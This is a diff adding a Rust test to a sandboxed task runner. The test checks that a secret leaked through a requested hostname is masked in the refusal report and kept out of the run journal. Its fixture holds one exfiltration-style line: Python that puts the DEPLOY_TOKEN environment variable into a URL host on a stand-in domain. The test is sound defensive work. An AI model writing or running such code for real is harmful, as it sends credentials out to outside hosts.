@@ -1,10 +1,10 @@
 //! What was refused is told: to the program, with the failure, in the record, and with what is
 //! proposed.
 
-use serde_json::json;
+use serde_json::{Value, json};
 
 use super::site::Site;
-use super::{client, is_ready, run};
+use super::{client, is_ready, mission, run};
 
 /// The last host is none, and must not be printed as if it were.
 const PROGRAM: &str = "
@@ -92,4 +92,29 @@ fn what_was_refused_is_told_with_the_line_that_would_grant_it() {
     run(&sandbox, "none");
     let infer = sandbox.tau(&["grants", "infer", "@"]).ends(0);
     assert!(!infer.out.contains("-    net \"127"), "{}", infer.out);
+}
+
+/// A program that asks for a host by the name of what it was given leaves it in no record.
+#[test]
+fn a_secret_is_in_no_host_that_is_told() {
+    if !is_ready("a_secret_is_in_no_host_that_is_told") {
+        return;
+    }
+    let statements = "  step case = process.run(\"python3 case.py\", secrets: [\"DEPLOY_TOKEN\"])";
+    let program = "get('http://' + os.environ['DEPLOY_TOKEN'] + '.example/')\n";
+    let grants = "secret DEPLOY_TOKEN\nnet \"a.example\"";
+    let sandbox = mission(grants, statements, program);
+    let secret = "wool-and-salt";
+    let arguments = ["apply", "boxed.tau", "--yes", "--json", "--box", "full"];
+    let mut command = sandbox.command(&arguments);
+    let done = command.env("DEPLOY_TOKEN", secret).output().unwrap();
+    let report: Value = serde_json::from_slice(&done.stdout).unwrap();
+    let host = &report["steps"][0]["refused"][0]["host"];
+    assert_eq!(*host, "***.example", "{report:#}");
+    let run = sandbox
+        .state()
+        .join("runs")
+        .join(report["run"].as_str().unwrap());
+    let journal = std::fs::read_to_string(run.join("journal.jsonl")).unwrap();
+    assert!(!journal.contains(secret), "{journal}");
 }
